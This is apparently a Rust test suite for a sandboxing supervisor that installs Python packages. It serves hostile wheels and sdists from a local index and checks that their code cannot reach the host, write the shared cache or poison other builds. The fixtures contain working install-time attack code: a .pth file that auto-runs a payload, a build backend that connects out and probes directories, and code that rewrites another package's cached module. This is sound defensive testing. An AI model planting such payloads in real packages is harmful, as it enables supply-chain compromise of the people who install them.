//! Installs are code execution: a wheel's `.pth` or an sdist's build
//! backend is the attacker. These tests serve hostile packages from a real
//! local index and check that install-time code reaches nothing on the
//! host (a loopback listener hears nothing), cannot write the shared
//! package cache, and cannot poison another build's environment; and that
//! a cache entry changed behind the supervisor's back is fetched again,
//! with a note in the audit log.

mod envs_support;

use envs_support::*;
use prims_supervisor::audit::Audit;
use prims_supervisor::envs::Envs;
use std::io::{BufRead, BufReader, Read};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const PKGINDEX: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/envs_support/pkgindex.py"
);

/// A real PEP 503 index on host loopback, serving the dists made into it.
struct Index {
    root: tempfile::TempDir,
    server: Option<Child>,
    port: u16,
}

impl Index {
    fn new() -> Index {
        Index {
            root: tempfile::tempdir().unwrap(),
            server: None,
            port: 0,
        }
    }

    fn tool(&self, args: &[&str]) -> String {
        let out = Command::new(INTERPRETER)
            .arg(PKGINDEX)
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    fn wheel(&self, name: &str, files: &[(&str, &str)]) -> PathBuf {
        let dir = tempfile::tempdir().unwrap();
        let mut args: Vec<String> = vec!["wheel".into(), self.dir(), name.into(), "1.0".into()];
        for (i, (path, content)) in files.iter().enumerate() {
            let f = dir.path().join(format!("f{i}"));
            std::fs::write(&f, content).unwrap();
            args.push(format!("{path}=@{}", f.display()));
        }
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        PathBuf::from(self.tool(&refs))
    }

    fn sdist(&self, name: &str, backend: &str) {
        let dir = tempfile::tempdir().unwrap();
        let b = dir.path().join("backend.py");
        std::fs::write(&b, backend).unwrap();
        self.tool(&["sdist", &self.dir(), name, "1.0", b.to_str().unwrap()]);
    }

    fn dir(&self) -> String {
        self.root.path().display().to_string()
    }

    fn serve(&mut self) {
        let mut child = Command::new(INTERPRETER)
            .arg(PKGINDEX)
            .args(["serve", &self.dir()])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        self.port = line.trim().parse().expect("the index prints its port");
        self.server = Some(child);
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/simple", self.port)
    }
}

impl Drop for Index {
    fn drop(&mut self) {
        if let Some(mut c) = self.server.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// A listener on host loopback that counts whoever reaches it.
struct Ear {
    port: u16,
    heard: Arc<AtomicUsize>,
    said: Arc<Mutex<Vec<u8>>>,
}

impl Ear {
    fn new() -> Ear {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let heard = Arc::new(AtomicUsize::new(0));
        let said = Arc::new(Mutex::new(Vec::new()));
        let (h, s) = (heard.clone(), said.clone());
        std::thread::spawn(move || {
            for conn in l.incoming().flatten() {
                h.fetch_add(1, Ordering::SeqCst);
                let mut conn = conn;
                let _ = conn.set_read_timeout(Some(Duration::from_secs(1)));
                let mut buf = [0u8; 256];
                if let Ok(n) = conn.read(&mut buf) {
                    s.lock().unwrap().extend_from_slice(&buf[..n]);
                }
            }
        });
        Ear { port, heard, said }
    }

    fn assert_silent(&self) {
        let said = String::from_utf8_lossy(&self.said.lock().unwrap()).to_string();
        assert_eq!(
            self.heard.load(Ordering::SeqCst),
            0,
            "install-time code reached a host loopback listener: {said:?}"
        );
    }
}

fn fixture_for(
    state: tempfile::TempDir,
    index: &Index,
    only_binary: bool,
    audit: Option<Arc<Audit>>,
) -> Fixture {
    let policy = policy(&format!(
        "default_packages = []\nindex_url = \"{}\"\nonly_binary = {only_binary}\nbuild_disk = \"256MiB\"\n",
        index.url()
    ));
    let bin = state.path().join("tools/bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::copy(shared_uv(), bin.join("uv")).unwrap();
    let mut cfg = config(state.path());
    cfg.audit = audit;
    let envs = Envs::new(cfg, &policy).expect("Envs::new");
    Fixture {
        state,
        envs: Arc::new(envs),
    }
}

/// Waits until the builds' volumes are gone: what a build added to the
/// package cache has been kept by then.
fn settle(state: &Path) {
    let deadline = Instant::now() + Duration::from_secs(60);
    let builds = state.join("builds");
    while std::fs::read_dir(&builds).map(|d| d.count()).unwrap_or(0) > 0 {
        assert!(
            Instant::now() < deadline,
            "a build volume was never released"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn payload(ear: &Ear, state: &Path, tag: &str) -> String {
    format!(
        r#"import os, socket, sys
found = []
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"{tag}")
    found.append("reached the host listener")
except Exception as e:
    found.append("connect: %r" % (e,))
for d in ["/uv-cache", "{state}/uv-cache", "{state}"]:
    try:
        with open(os.path.join(d, "PWNED-{tag}"), "w") as f:
            f.write("x")
        found.append("wrote " + d)
    except Exception as e:
        found.append("write %s: %r" % (d, e))
sys.stderr.write("{tag} " + repr(found) + "\n")
"#,
        port = ear.port,
        state = state.display(),
    )
}

fn no_pwned_file(state: &Path) {
    let out = Command::new("find")
        .arg(state)
        .args(["-name", "PWNED-*"])
        .output()
        .unwrap();
    assert!(
        out.stdout.is_empty(),
        "install-time code wrote on the host: {}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pth_file_does_nothing_at_install_and_never_reaches_another_build() {
    let ear = Ear::new();
    let mut index = Index::new();
    let good = index.wheel("prims_good", &[("prims_good/__init__.py", "VALUE = 42\n")]);
    let state_dir = tempfile::tempdir().unwrap();
    let evil_payload = payload(&ear, state_dir.path(), "pth");
    index.wheel(
        "prims_evil_pth",
        &[
            ("prims_evil_pth.pth", "import prims_evil_payload\n"),
            ("prims_evil_payload.py", &evil_payload),
            // The attack of the review: rewrite another package's module.
            ("prims_evil_pth/__init__.py", "import glob\nfor p in glob.glob('/uv-cache/archive-*/*/prims_good/__init__.py'):\n    open(p, 'a').write('POISONED = True\\n')\n"),
        ],
    );
    index.serve();
    let f = fixture_for(state_dir, &index, true, None);
    let state = f.state.path().to_path_buf();

    let evil = f
        .envs
        .ensure(&reqs(&["prims_evil_pth", "prims_good"]), &quiet)
        .await
        .expect("the hostile wheel installs (it is just files)");
    settle(&state);
    ear.assert_silent();
    no_pwned_file(&state);
    assert!(evil
        .dir
        .join("lib/python3.11/site-packages/prims_evil_pth.pth")
        .is_file());
    let pycache = evil
        .dir
        .join("lib/python3.11/site-packages/prims_good/__pycache__");
    assert!(pycache.is_dir(), "bytecode was compiled");

    // Its .pth runs where all code runs: in a run jail, which has no way out.
    let ran = run_in(&evil.dir, "import prims_good; print(prims_good.VALUE)").await;
    ear.assert_silent();
    assert_eq!(String::from_utf8_lossy(&ran.stdout).trim(), "42");
    let err = String::from_utf8_lossy(&ran.stderr);
    assert!(
        err.contains("pth [") && err.contains("connect: PermissionError"),
        "the .pth ran, jailed, and could not connect: {err}"
    );
    // Importing the evil package in the run jail: /uv-cache does not exist there.
    let _ = run_in(&evil.dir, "import prims_evil_pth").await;
    no_pwned_file(&state);

    // A later build of another set gets prims_good as published.
    let clean = f.envs.ensure(&reqs(&["prims_good"]), &quiet).await.unwrap();
    settle(&state);
    let published = tree_of_wheel(&good);
    let installed = std::fs::read(
        clean
            .dir
            .join("lib/python3.11/site-packages/prims_good/__init__.py"),
    )
    .unwrap();
    assert_eq!(
        installed, published,
        "another build's environment is intact"
    );
    let ran = run_in(
        &clean.dir,
        "import prims_good; print(hasattr(prims_good, 'POISONED'))",
    )
    .await;
    assert_eq!(String::from_utf8_lossy(&ran.stdout).trim(), "False");
    ear.assert_silent();
}

/// The bytes of `prims_good/__init__.py` in a wheel.
fn tree_of_wheel(wheel: &Path) -> Vec<u8> {
    let out = Command::new(INTERPRETER)
        .args([
            "-c",
            "import sys, zipfile; sys.stdout.buffer.write(zipfile.ZipFile(sys.argv[1]).read('prims_good/__init__.py'))",
        ])
        .arg(wheel)
        .output()
        .unwrap();
    assert!(out.status.success());
    out.stdout
}

const BACKEND: &str = r#"
import base64, hashlib, os, socket, sys, zipfile

def _probe():
    found = []
    def connect(host, port, how):
        try:
            s = socket.create_connection((host, port), timeout=3)
            s.sendall(b"build")
            found.append("%s: connected" % how)
        except Exception as e:
            found.append("%s: %r" % (how, e))
    connect("127.0.0.1", EAR, "direct to the host listener")
    # Through the build's proxy: CONNECT to a host that is not the index.
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
        s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (EAR, EAR))
        found.append("proxy said: " + s.recv(200).decode(errors="replace").splitlines()[0])
    except Exception as e:
        found.append("proxy: %r" % (e,))
    for d in ["/uv-cache", STATE + "/uv-cache", STATE]:
        try:
            with open(os.path.join(d, "PWNED-build"), "w") as f:
                f.write("x")
            found.append("wrote " + d)
        except Exception as e:
            found.append("write %s: %r" % (d, e))
    for p in [STATE, "/uv-cache", "/venv", "/workspace"]:
        try:
            found.append("sees %s: %s" % (p, " ".join(sorted(os.listdir(p)))))
        except Exception as e:
            found.append("sees %s: %r" % (p, e))
    return "\n".join(found) + "\n"

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    d = os.path.join(metadata_directory, "prims_evil_build-1.0.dist-info")
    os.makedirs(d)
    with open(os.path.join(d, "METADATA"), "w") as f:
        f.write("Metadata-Version: 2.1\nName: prims_evil_build\nVersion: 1.0\n")
    with open(os.path.join(d, "WHEEL"), "w") as f:
        f.write("Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    return "prims_evil_build-1.0.dist-info"

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        "prims_evil_build/__init__.py": "",
        "prims_evil_build/report.txt": _probe(),
        "prims_evil_build-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: prims_evil_build\nVersion: 1.0\n",
        "prims_evil_build-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rec = []
    for p, c in files.items():
        d = base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b"=").decode()
        rec.append("%s,sha256=%s,%d" % (p, d, len(c.encode())))
    rec.append("prims_evil_build-1.0.dist-info/RECORD,,")
    files["prims_evil_build-1.0.dist-info/RECORD"] = "\n".join(rec) + "\n"
    name = "prims_evil_build-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, c in files.items():
            z.writestr(p, c)
    return name
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_backend_reaches_only_the_index_and_writes_only_its_volume() {
    let ear = Ear::new();
    let mut index = Index::new();
    let state_dir = tempfile::tempdir().unwrap();
    let state = state_dir.path().to_path_buf();
    let backend = BACKEND
        .replace("EAR", &ear.port.to_string())
        .replace("STATE", &format!("{:?}", state.display().to_string()));
    index.sdist("prims_evil_build", &backend);
    index.serve();
    let f = fixture_for(state_dir, &index, false, None);
    let manifest_before = std::fs::read(state.join("uv-cache.manifest.json")).unwrap();

    let env = f
        .envs
        .ensure(&reqs(&["prims_evil_build"]), &quiet)
        .await
        .expect("the sdist builds");
    settle(&state);
    ear.assert_silent();
    no_pwned_file(&state);
    let report = std::fs::read_to_string(
        env.dir
            .join("lib/python3.11/site-packages/prims_evil_build/report.txt"),
    )
    .unwrap();
    eprintln!("what the build backend found:\n{report}");
    // The build's 127.0.0.1 is its jail's own loopback, where nothing
    // listens on the host listener's port (and the listener heard nothing).
    assert!(
        report.contains("direct to the host listener: ConnectionRefusedError(111"),
        "{report}"
    );
    assert!(
        report.contains("proxy said: HTTP/1.1 403 Forbidden"),
        "{report}"
    );
    assert!(
        report.contains("wrote /uv-cache"),
        "the overlay takes its writes: {report}"
    );
    assert!(
        !report.contains(&format!("wrote {}", state.display())),
        "{report}"
    );
    assert!(
        report.contains(&format!("sees {}: FileNotFoundError", state.display())),
        "the state directory is not in the install jail: {report}"
    );
    // A build that ran package code feeds nothing into the shared cache.
    let entries: Vec<_> = std::fs::read_dir(state.join("uv-cache"))
        .unwrap()
        .flatten()
        .collect();
    assert!(
        entries.is_empty(),
        "the shared cache was written: {entries:?}"
    );
    assert_eq!(
        std::fs::read(state.join("uv-cache.manifest.json")).unwrap(),
        manifest_before
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cache_entry_changed_behind_our_back_is_fetched_again_and_audited() {
    let mut index = Index::new();
    let good = index.wheel("prims_good", &[("prims_good/__init__.py", "VALUE = 42\n")]);
    index.wheel("prims_other", &[("prims_other/__init__.py", "")]);
    index.serve();
    let audit_dir = tempfile::tempdir().unwrap();
    let audit = Arc::new(Audit::new(audit_dir.path()));
    let f = fixture_for(tempfile::tempdir().unwrap(), &index, true, Some(audit));
    let state = f.state.path().to_path_buf();
    f.envs.ensure(&reqs(&["prims_good"]), &quiet).await.unwrap();
    settle(&state);

    // Poison the cached copy as the review did: append to the module.
    let cache = state.join("uv-cache");
    let out = Command::new("find")
        .arg(&cache)
        .args(["-path", "*/prims_good/__init__.py"])
        .output()
        .unwrap();
    let cached = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(
        !cached.is_empty(),
        "prims_good was kept in the package cache"
    );
    let mut text = std::fs::read_to_string(&cached).unwrap();
    text.push_str("POISONED = True\n");
    std::fs::write(&cached, text).unwrap();

    let env = f
        .envs
        .ensure(&reqs(&["prims_good", "prims_other"]), &quiet)
        .await
        .unwrap();
    settle(&state);
    let installed = std::fs::read(
        env.dir
            .join("lib/python3.11/site-packages/prims_good/__init__.py"),
    )
    .unwrap();
    assert_eq!(
        installed,
        tree_of_wheel(&good),
        "the poisoned entry never reached the environment"
    );
    let log = std::fs::read_to_string(audit_dir.path().join("audit.log")).unwrap();
    assert!(
        log.contains("\"event\":\"package_cache_refetch\"") && log.contains("contents changed"),
        "{log}"
    );
    // Fetched again, and kept again with its new hash.
    let again = String::from_utf8_lossy(
        &Command::new("find")
            .arg(&cache)
            .args(["-path", "*/prims_good/__init__.py"])
            .output()
            .unwrap()
            .stdout,
    )
    .to_string();
    assert!(!again.trim().is_empty());
    assert!(!std::fs::read_to_string(again.trim())
        .unwrap()
        .contains("POISONED"));
}
